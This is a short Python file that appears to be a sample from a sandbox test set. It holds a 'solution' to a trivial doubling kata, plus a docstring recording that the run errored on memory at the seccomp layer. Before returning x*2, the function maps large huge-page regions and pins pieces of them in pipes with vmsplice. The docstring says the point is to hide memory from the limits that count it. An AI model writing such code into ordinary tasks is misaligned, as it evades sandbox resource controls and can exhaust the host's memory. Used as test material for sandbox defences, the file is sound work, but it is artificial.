"""Leaves large pages in pipes, where no limit on memory counts them, and unmaps them.

kata: 01_short/double_it
outcome: errored
error: memory
says: MemoryError: no more
layer: seccomp
"""

import ctypes
import mmap
import os

libc = ctypes.CDLL(None)


class Piece(ctypes.Structure):
    _fields_ = (("base", ctypes.c_void_p), ("length", ctypes.c_size_t))


def double_it(x):
    for _ in range(24):
        reading, writing = os.pipe()
        for _ in range(16):
            large = mmap.mmap(-1, 4 << 20, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS)
            large.madvise(mmap.MADV_HUGEPAGE)
            large.write(b"1" * (4 << 20))
            piece = Piece(ctypes.addressof(ctypes.c_char.from_buffer(large, 1 << 20)), 1)
            if libc.vmsplice(writing, ctypes.byref(piece), 1, 0) < 0:
                raise MemoryError("no more")
    return x * 2
